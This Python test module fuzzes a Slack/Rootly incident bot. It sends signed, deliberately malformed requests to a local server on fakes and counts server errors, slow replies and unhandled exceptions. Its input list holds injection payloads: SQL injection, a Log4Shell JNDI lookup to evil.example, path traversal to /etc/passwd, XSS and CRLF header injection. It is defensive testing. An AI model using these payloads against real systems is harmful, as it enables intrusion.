"""Generated inputs for every way into the bot, and a driver that sends them and counts what went wrong.

One generator per surface Slack or Rootly can reach: ``/rootly`` text, block actions (every action id the bot knows,
with hostile values, selections and containers), view submissions (every callback id, with the right or wrong input
blocks and private metadata), shortcuts (global and message), options requests for external selects, Events API
callbacks (``app_home_opened``, thread replies, anything else) and Rootly webhooks. Each case starts from the shape
Slack (or Rootly) really sends and then, often, breaks it: a key dropped, a value of the wrong type deep inside,
text oversized, Slack markup, injection strings. Every case is correctly signed, so it reaches the code behind the
signature check.

The driver counts, per surface: answers ≥ 500, answers slower than Slack's 3 s, and unhandled exceptions (records
logged at ERROR with a traceback by the bot or Bolt: the failures middleware logs every listener that raised, the
work pool every job that did). The generators are seeded, so a finding can be replayed by its surface, seed and index.

Used by ``tests/test_fuzz_surfaces.py`` (a short run in the default suite) and ``bench/fuzz.py`` (the long run).
"""

from __future__ import annotations

import hashlib
import hmac
import json
import logging
import random
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import requests

from bot.render.ids import Action, Block, Callback
from tests.slack_requests import SLASH_COMMAND, SlackSender

NASTY = [
    "",
    " ",
    "\x00",
    "\u202e\u200b\ufeff",
    "😀" * 50,
    "Ω≈ç√∫˜µ≤≥÷ 田中さん 𝕿𝖊𝖘𝖙",
    "<!channel>",
    "<!here|here>",
    "<@U111>",
    "<#C111|general>",
    "<!subteam^S0SRE>",
    "<https://evil.example/|click me>",
    "*bold* _it_ ~s~ `code` ```block``` > quote",
    "'; DROP TABLE outbox; --",
    '" OR 1=1 --',
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "%s%s%s%n %x",
    "\r\nX-Injected: 1\r\n\r\n",
    "rootly:",
    ":",
    "ref::x",
    "ilert:abc",
    "ilert:",
    "rootly:../../v1/users",
    "https://rootly.com/account/alerts/../../../v1/incidents",
    "null",
    "{}",
    "[]",
    '{"ref": "rootly:nope"}',
    "-1",
    "1e309",
    "a" * 4000,
    "\n" * 500,
]
WORDS = [
    "ack",
    "resolve",
    "note",
    "alerts",
    "alerts here",
    "alert",
    "update",
    "edit",
    "trigger",
    "digest",
    "digest daily",
    "digest every 1m",
    "digest cron",
    "digests",
    "feed",
    "feed on",
    "feed off",
    "incident",
    "incidents",
    "oncall",
    "page",
    "threads on",
    "threads status",
    "home",
    "help",
]
SELECT_TYPES = [
    "button",
    "overflow",
    "static_select",
    "external_select",
    "multi_static_select",
    "multi_external_select",
    "users_select",
    "checkboxes",
    "radio_buttons",
    "plain_text_input",
]
# The input blocks each modal reads, (block id, action id), so a fuzzed submission often reaches the form's code.
MODAL_INPUTS: dict[str, list[tuple[str, str]]] = {
    Callback.NOTE_MODAL: [(Block.NOTE_INPUT, Action.NOTE_TEXT)],
    Callback.EDIT_MODAL: [
        (Block.EDIT_SUMMARY, Action.EDIT_SUMMARY),
        (Block.EDIT_DESCRIPTION, Action.EDIT_DESCRIPTION),
        (Block.EDIT_URGENCY, Action.EDIT_URGENCY),
        (Block.EDIT_SERVICES, Action.EDIT_SERVICES),
        (Block.EDIT_ENVIRONMENTS, Action.EDIT_ENVIRONMENTS),
        (Block.EDIT_TEAMS, Action.EDIT_TEAMS),
        (Block.EDIT_LABELS, Action.EDIT_LABELS),
    ],
    Callback.INCIDENT_MODAL: [
        (Block.INCIDENT_TITLE, Action.INCIDENT_TITLE),
        (Block.INCIDENT_SUMMARY, Action.INCIDENT_SUMMARY),
        (Block.INCIDENT_SEVERITY, Action.INCIDENT_SEVERITY),
        (Block.INCIDENT_TYPES, Action.INCIDENT_TYPES),
        (Block.INCIDENT_SERVICES, Action.INCIDENT_SERVICES),
        (Block.INCIDENT_TEAMS, Action.INCIDENT_TEAMS),
        (Block.INCIDENT_ENVIRONMENTS, Action.INCIDENT_ENVIRONMENTS),
        (Block.INCIDENT_PARENT, Action.INCIDENT_PARENT),
        (Block.INCIDENT_ALERT, Action.INCIDENT_ALERT),
        (Block.INCIDENT_PRIVATE, Action.INCIDENT_PRIVATE),
    ],
    Callback.INCIDENT_ACTION_MODAL: [(Block.INCIDENT_TEXT, Action.INCIDENT_TEXT)],
    Callback.INCIDENT_ROLE_MODAL: [
        (Block.INCIDENT_ROLE, Action.INCIDENT_ROLE),
        (Block.INCIDENT_ROLE_USER, Action.INCIDENT_ROLE_USER),
    ],
    Callback.TIMELINE_MODAL: [(Block.INCIDENT_PICK, Action.INCIDENT_PICK), (Block.INCIDENT_TEXT, Action.INCIDENT_TEXT)],
}
SURFACES = ("slash", "block_actions", "view_submissions", "shortcuts", "options", "events", "rootly_webhooks")
SLOW = 3.0  # Slack's deadline for an answer


@dataclass(frozen=True)
class Case:
    """One request: where it goes, its bytes and headers."""

    surface: str
    path: str
    body: bytes
    headers: dict[str, str]


class Inputs:
    """Seeded generators, one per surface. ``alert_ids`` are real alerts in the Rootly fake, so some cases reach
    the code that acts on an alert rather than only the code that refuses a bad reference."""

    def __init__(self, seed: int, alert_ids: list[str], user: str = "U111", channel: str = "C111") -> None:
        self.rng = random.Random(seed)
        self.alert_ids = alert_ids or [str(uuid.uuid4())]
        self.user, self.channel = user, channel

    # --- values ------------------------------------------------------------------------------------------------

    def text(self, long: bool = True) -> str:
        r = self.rng.random()
        if r < 0.35:
            return self.rng.choice(NASTY)
        if r < 0.7:
            return "".join(chr(self.rng.randrange(32, 0x2FFF)) for _ in range(self.rng.randrange(0, 60)))
        if r < 0.85:
            return self.rng.choice(WORDS) + " " + self.rng.choice(NASTY)[:300]
        if r < 0.95 or not long:
            return self.ref() + " " + self.rng.choice(NASTY)[:200]
        return "".join(
            chr(self.rng.randrange(1, 0x10FFFF) & 0xD7FF or 65) for _ in range(self.rng.randrange(2000, 6000))
        )

    def ref(self) -> str:
        alert = self.rng.choice(self.alert_ids)
        return self.rng.choice([f"rootly:{alert}", alert, alert[:8], f"ilert:{self.rng.randrange(10**6)}", "rootly:x"])

    def json_value(self, depth: int = 0) -> Any:
        r = self.rng.random()
        if depth > 2 or r < 0.5:
            return self.rng.choice(
                [None, True, False, 0, -1, 2**63, 1.5, "", self.text(long=False), [], {}, self.ref(), "U111"]
            )
        if r < 0.75:
            return [self.json_value(depth + 1) for _ in range(self.rng.randrange(0, 4))]
        return {self.rng.choice(["id", "type", "value", "text", "ts", "user"]): self.json_value(depth + 1)}

    def mutate(self, payload: dict[str, Any], rate: float = 0.5) -> dict[str, Any]:
        """Often, break the shape: drop a key or put a value of any type in place of one, anywhere in the tree."""
        while self.rng.random() < rate:
            node: Any = payload
            for _ in range(self.rng.randrange(1, 4)):
                if isinstance(node, dict) and node:
                    key = self.rng.choice(list(node))
                    if isinstance(node[key], dict | list) and self.rng.random() < 0.6:
                        node = node[key]
                        continue
                    if self.rng.random() < 0.3:
                        del node[key]
                    else:
                        node[key] = self.json_value()
                    break
                if isinstance(node, list) and node:
                    i = self.rng.randrange(len(node))
                    if isinstance(node[i], dict | list) and self.rng.random() < 0.6:
                        node = node[i]
                        continue
                    node[i] = self.json_value()
                    break
                break
            rate *= 0.6
        return payload

    def option(self) -> dict[str, Any]:
        value = self.rng.choice([self.text(long=False), self.ref(), str(self.rng.randrange(100))])
        return {"value": value[:150], "text": {"type": "plain_text", "text": self.text(long=False)[:75]}}

    def metadata(self) -> str:
        r = self.rng.random()
        if r < 0.3:
            return json.dumps({"ref": f"rootly:{self.rng.choice(self.alert_ids)}"})
        if r < 0.5:
            return json.dumps({"ref": self.ref(), "channel": self.channel, "ts": "1700000000.000100"})
        if r < 0.7:
            return json.dumps(self.json_value())
        return self.text()[:3000]

    def user_obj(self) -> dict[str, Any]:
        return {"id": self.user, "username": "alice", "name": "alice", "team_id": "T111"}

    # --- surfaces ----------------------------------------------------------------------------------------------

    def slash(self) -> dict[str, str]:
        form = {**SLASH_COMMAND, "text": self.text()}
        if self.rng.random() < 0.15:
            form[self.rng.choice(list(form))] = self.text(long=False)
        if self.rng.random() < 0.05:
            form.pop(self.rng.choice(list(form)))
        return form

    def block_action(self) -> dict[str, Any]:
        action_id = self.rng.choice([*Action, self.text(long=False)[:255]])
        kind = self.rng.choice(SELECT_TYPES)
        action: dict[str, Any] = {
            "action_id": str(action_id),
            "block_id": self.rng.choice(["b", *Block, self.text(long=False)[:255]]),
            "type": kind,
            "action_ts": "1700000001.000200",
        }
        if kind == "button":
            action["value"] = self.rng.choice([self.ref(), self.text()])[:2000]
        elif kind.startswith("multi") or kind == "checkboxes":
            action["selected_options"] = [self.option() for _ in range(self.rng.randrange(0, 4))]
        elif kind == "users_select":
            action["selected_user"] = self.rng.choice([self.user, self.text(long=False)])
        elif kind == "plain_text_input":
            action["value"] = self.text()[:3000]
        else:
            action["selected_option"] = self.option()
        ts = "1700000000.000100"
        in_view = self.rng.random() < 0.3
        payload: dict[str, Any] = {
            "type": "block_actions",
            "user": self.user_obj(),
            "api_app_id": "A111",
            "token": "verification_token",
            "trigger_id": "4916855695380.xxx.yyy",
            "team": {"id": "T111", "domain": "test"},
            "state": {"values": {}},
            "actions": [action],
        }
        if in_view:
            payload["container"] = {"type": "view", "view_id": "V123"}
            payload["view"] = {
                "id": "V123",
                "type": self.rng.choice(["modal", "home"]),
                "callback_id": str(self.rng.choice(list(Callback))),
                "private_metadata": self.metadata(),
                "hash": "1.abc",
                "state": {"values": {}},
            }
        else:
            payload["container"] = {"type": "message", "message_ts": ts, "channel_id": self.channel}
            payload["channel"] = {"id": self.channel, "name": "oncall"}
            payload["response_url"] = ""  # filled in by the driver
            payload["message"] = {
                "type": "message",
                "ts": ts,
                "text": self.text(long=False),
                "blocks": [
                    {"type": "section", "block_id": Block.ALERT_SUMMARY, "text": {"type": "mrkdwn", "text": "x"}}
                ],
            }
        return self.mutate(payload, 0.4)

    def view_submission(self) -> dict[str, Any]:
        callback = self.rng.choice([*Callback, self.text(long=False)[:255]])
        inputs = MODAL_INPUTS.get(str(callback)) or [self.rng.choice(list(MODAL_INPUTS.values()))[0]]
        values: dict[str, Any] = {}
        for block, action in inputs:
            if self.rng.random() < 0.1:
                continue  # a field missing
            kind = self.rng.choice(SELECT_TYPES[1:])
            state: dict[str, Any] = {"type": kind}
            if kind in ("plain_text_input",):
                state["value"] = self.rng.choice([self.text(), None])
            elif kind.startswith("multi") or kind == "checkboxes":
                state["selected_options"] = [self.option() for _ in range(self.rng.randrange(0, 4))]
            elif kind == "users_select":
                state["selected_user"] = self.rng.choice([self.user, None, self.text(long=False)])
            else:
                state["selected_option"] = self.rng.choice([self.option(), None])
            values[str(block)] = {str(action): state}
        payload = {
            "type": "view_submission",
            "team": {"id": "T111", "domain": "test"},
            "user": self.user_obj(),
            "api_app_id": "A111",
            "token": "verification_token",
            "trigger_id": "111.222.valid",
            "view": {
                "id": f"V{self.rng.randrange(10**8)}",
                "type": "modal",
                "callback_id": str(callback),
                "private_metadata": self.metadata(),
                "hash": "1.abc",
                "state": {"values": values},
            },
            "response_urls": [],
        }
        return self.mutate(payload, 0.3)

    def shortcut(self) -> dict[str, Any]:
        callback = str(self.rng.choice([*Callback, self.text(long=False)[:255]]))
        base: dict[str, Any] = {
            "callback_id": callback,
            "user": self.user_obj(),
            "team": {"id": "T111", "domain": "test"},
            "token": "verification_token",
            "action_ts": "1700000001.000200",
            "trigger_id": "111.222.valid",
        }
        if self.rng.random() < 0.35:
            return self.mutate({"type": "shortcut", **base}, 0.3)
        ts = "1700000000.000300"
        thread_ts = self.rng.choice(["1700000000.000100", ts, None, self.text(long=False)])
        message: dict[str, Any] = {"type": "message", "ts": ts, "user": "U222", "text": self.text()}
        if thread_ts is not None:
            message["thread_ts"] = thread_ts
        if self.rng.random() < 0.1:
            message["bot_id"] = "B123"
        payload = {
            "type": "message_action",
            **base,
            "message_ts": ts,
            "channel": {"id": self.channel, "name": "oncall"},
            "message": message,
            "response_url": "",  # filled in by the driver
        }
        return self.mutate(payload, 0.3)

    def options_request(self) -> dict[str, Any]:
        action_id = self.rng.choice([a for a in Action if a.startswith(("edit.", "incident."))] + [self.text(False)])
        payload = {
            "type": "block_suggestion",
            "user": self.user_obj(),
            "team": {"id": "T111", "domain": "test"},
            "api_app_id": "A111",
            "token": "verification_token",
            "action_id": str(action_id)[:255],
            "block_id": self.rng.choice([*Block, "b"]),
            "value": self.rng.choice([self.text(), "", "pay", self.ref()])[:2000],
            "container": {"type": "view", "view_id": "V123"},
            "view": {
                "id": "V123",
                "type": "modal",
                "callback_id": str(self.rng.choice(list(Callback))),
                "private_metadata": self.metadata(),
                "state": {"values": {}},
            },
        }
        return self.mutate(payload, 0.3)

    def event(self) -> dict[str, Any]:
        r = self.rng.random()
        if r < 0.3:
            event: dict[str, Any] = {"type": "app_home_opened", "user": self.user, "tab": "home", "channel": "D111"}
        elif r < 0.75:
            ts = f"17000000{self.rng.randrange(10, 99)}.{self.rng.randrange(10**6):06d}"
            event = {
                "type": "message",
                "channel": self.channel,
                "user": self.rng.choice([self.user, "U222"]),
                "text": self.text(),
                "ts": ts,
                "thread_ts": self.rng.choice(["1700000000.000100", ts, self.text(long=False)]),
                "channel_type": "channel",
            }
            if self.rng.random() < 0.2:
                event["subtype"] = self.rng.choice(
                    ["bot_message", "message_changed", "message_deleted", "thread_broadcast"]
                )
        else:
            event = {
                "type": self.rng.choice(["app_mention", "reaction_added", self.text(long=False)]),
                "user": self.user,
            }
        event = self.mutate(event, 0.4)
        body = {
            "token": "verification_token",
            "team_id": "T111",
            "api_app_id": "A111",
            "type": "event_callback",
            "event_id": f"Ev{uuid.UUID(int=self.rng.getrandbits(128)).hex[:16]}",
            "event_time": 1700000000,
            "event": event,
        }
        return self.mutate(body, 0.15)

    def webhook(self) -> Any:
        alert = self.rng.choice(self.alert_ids)
        kind = self.rng.choice(
            ["alert.created", "alert.updated", "alert.resolved", "incident.created", self.text(False)]
        )
        body: dict[str, Any] = {
            "event": {
                "id": str(uuid.UUID(int=self.rng.getrandbits(128))),
                "type": kind,
                "issued_at": "2026-11-26T10:00:00Z",
            },
            "data": {
                "id": self.rng.choice([alert, self.text(long=False), str(uuid.uuid4())]),
                "summary": self.text(),
                "source": self.rng.choice(["manual", "datadog", self.text(long=False)]),
                "labels": [],
                "status": self.rng.choice(["triggered", "acknowledged", "resolved", self.text(long=False)]),
            },
        }
        if self.rng.random() < 0.1:
            return self.json_value()
        return self.mutate(body, 0.5)


@dataclass
class Tally:
    """What one surface's cases got."""

    cases: int = 0
    server_errors: int = 0
    slow: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    slowest: float = 0.0
    examples: list[str] = field(default_factory=list)


class Unhandled(logging.Handler):
    """Records logged at ERROR with a traceback by the bot, Bolt or waitress: an exception nothing handled."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []
        self._guard = threading.Lock()

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info and record.name.startswith(("bot", "slack_bolt", "waitress")):
            with self._guard:
                self.records.append(record)

    def __enter__(self) -> Unhandled:
        logging.getLogger().addHandler(self)
        return self

    def __exit__(self, *exc: object) -> None:
        logging.getLogger().removeHandler(self)


def where(record: logging.LogRecord) -> str:
    """The message and the bot's own frames of a logged exception, to find the failing code from a report."""
    head = f"{record.name}: {record.getMessage()[:200]}"
    if not record.exc_info:
        return head
    trace = logging.Formatter().formatException(record.exc_info).splitlines()
    return head + "\n" + "\n".join(line for line in trace if "/bot/" in line or not line.startswith("  "))[-1500:]


class Driver:
    """Sends a surface's cases to a served bot from ``workers`` threads and tallies the answers."""

    def __init__(self, bot_url: str, sender: SlackSender, webhook_secret: str, response_url: str) -> None:
        self.bot_url, self.sender = bot_url, sender
        self.webhook_secret, self.response_url = webhook_secret, response_url

    def case(self, inputs: Inputs, surface: str) -> Case:
        form = "application/x-www-form-urlencoded"
        events = "/slack/events"
        if surface == "slash":
            fields = inputs.slash()
            fields["response_url"] = self.response_url
            return Case(surface, events, urlencode(fields).encode(), {"Content-Type": form})
        if surface == "events":
            return Case(surface, events, json.dumps(inputs.event()).encode(), {"Content-Type": "application/json"})
        if surface == "rootly_webhooks":
            body = json.dumps(inputs.webhook()).encode()
            ts = str(int(time.time()))
            sig = hmac.new(self.webhook_secret.encode(), ts.encode() + body, hashlib.sha256).hexdigest()
            headers = {"Content-Type": "application/json", "X-Rootly-Signature": f"t={ts},v1={sig}"}
            return Case(surface, "/rootly/webhooks", body, headers)
        make: dict[str, Callable[[], dict[str, Any]]] = {
            "block_actions": inputs.block_action,
            "view_submissions": inputs.view_submission,
            "shortcuts": inputs.shortcut,
            "options": inputs.options_request,
        }
        payload = make[surface]()
        if payload.get("response_url") == "":
            payload["response_url"] = self.response_url
        return Case(surface, events, urlencode({"payload": json.dumps(payload)}).encode(), {"Content-Type": form})

    def send(self, session: requests.Session, case: Case) -> tuple[int, float]:
        headers = dict(case.headers)
        if case.path == "/slack/events":
            ts = self.sender._fresh_timestamp(case.body)
            base = b"v0:" + str(ts).encode() + b":" + case.body
            digest = hmac.new(self.sender.signing_secret.encode(), base, hashlib.sha256).hexdigest()
            headers |= {"X-Slack-Request-Timestamp": str(ts), "X-Slack-Signature": f"v0={digest}"}
        started = time.monotonic()
        resp = session.post(self.bot_url + case.path, data=case.body, headers=headers, timeout=30)
        return resp.status_code, time.monotonic() - started

    def run(self, surface: str, n: int, seed: int, alert_ids: list[str], workers: int = 4) -> Tally:
        tally, lock = Tally(), threading.Lock()

        def chunk(index: int) -> None:
            inputs = Inputs(seed * 1000 + index, alert_ids)
            with requests.Session() as session:
                for _ in range(index, n, workers):
                    case = self.case(inputs, surface)
                    try:
                        status, took = self.send(session, case)
                    except requests.RequestException as exc:  # no answer at all counts as a server error
                        status, took = 599, 30.0
                        with lock:
                            tally.examples.append(f"{surface}: {exc!r}")
                    with lock:
                        tally.cases += 1
                        tally.statuses[status] += 1
                        tally.slowest = max(tally.slowest, took)
                        tally.slow += took > SLOW
                        if status >= 500:
                            tally.server_errors += 1
                            if len(tally.examples) < 5:
                                tally.examples.append(f"{surface} {status}: {case.body[:300]!r}")

        with ThreadPoolExecutor(workers) as pool:
            list(pool.map(chunk, range(workers)))
        return tally


class Target:
    """The real app served over HTTP on its fakes (contract-validating), with a feed on in the channel so webhooks
    post alert messages, and alerts to act on."""

    def __init__(self, tmp: Path, alerts: int = 5) -> None:
        from bot.config import Settings
        from tests.conftest import BOT_TOKEN, ROOTLY_TOKEN, BotServer, bot_env
        from tests.fakes.rootly import RootlyFake
        from tests.fakes.slack import SlackFake
        from tests.test_alert_messages_e2e import WEBHOOK_SECRET

        self.rootly = RootlyFake(token=ROOTLY_TOKEN).start()
        self.slack = SlackFake(bot_token=BOT_TOKEN).start()
        self.slack.add_user("U111", "alice@example.com", "Alice Example")
        self.rootly.add_user("alice@example.com", "Alice Example")
        self.alert_ids = [
            self.rootly.add_alert(summary=f"Fuzzed alert {i}", status="triggered")["id"] for i in range(alerts)
        ]
        env = bot_env(tmp, self.rootly, self.slack, ROOTLY_WEBHOOK_SECRET=WEBHOOK_SECRET, FEED_POLL_SECONDS="0")
        self.server = BotServer(Settings.from_env(env), self.slack.response_url())
        self.bot = self.server.__enter__()
        self.driver = Driver(self.bot.url, self.bot.sender, WEBHOOK_SECRET, self.slack.response_url())
        self.bot.sender.slash("feed on")

    def violations(self) -> list[str]:
        return [*self.rootly.violations, *self.slack.violations]

    def close(self) -> None:
        time.sleep(0.5)  # let background work finish
        self.server.__exit__(None, None, None)
        self.rootly.stop()
        self.slack.stop()
